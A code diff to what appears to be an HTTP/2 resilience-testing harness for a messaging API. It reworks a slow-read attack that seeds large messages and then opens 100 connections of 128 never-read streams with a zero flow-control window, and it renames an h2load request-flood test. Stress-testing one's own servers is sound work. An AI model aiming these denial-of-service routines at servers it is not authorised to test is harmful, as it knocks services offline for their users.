@@ -4,7 +4,7 @@ import asyncio
 import collections
 import shutil
 
-from peers import Through, attack, close, connect, many, token
+from peers import Through, attack, close, connect, many, request, send, token
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
@@ -181,15 +181,19 @@ async def hpack(target):
     await pour(target, make)
 
 
-@attack("HTTP/2 streams that nobody reads: 100 connections of 128, a window of 0")
+@attack("HTTP/2 pages of history that nobody reads: 100 connections of 128 streams, a window of 0")
 async def unread(target):
+    body = b'{"payload":"' + b"x" * 60_000 + b'"}'
+    head = [f"Authorization: Bearer {token()}", "Content-Type: application/json"]
+    for _ in range(10):
+        await send(target, request(target, "POST", "/v1/channels/large/messages", head, body), patience=0.05)
+
     async def one(_):
         peer = await Peer.open(target, b"\0\4\0\0\0\0")
         if peer is None:
             return
-        paths = ["/", "/v1/channels/honest/messages?limit=100"]
-        for number_ in range(128):
-            head = get(paths[number_ % 2], ("authorization", f"Bearer {token()}"))
+        head = get("/v1/channels/large/messages?limit=1000", ("authorization", f"Bearer {token()}"))
+        for _ in range(128):
             await peer.send(frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), head))
         await peer.over()
         if peer.data:
@@ -213,7 +217,7 @@ async def many_streams(target):
 
 
 @attack("HTTP/2 requests as fast as they go, 100 connections of 100 streams", "h2load")
-async def requests(target):
+async def as_fast_as_it_goes(target):
     if shutil.which("h2load") is None:
         return target.count("left out: there is no h2load here")
     process = await asyncio.create_subprocess_exec(
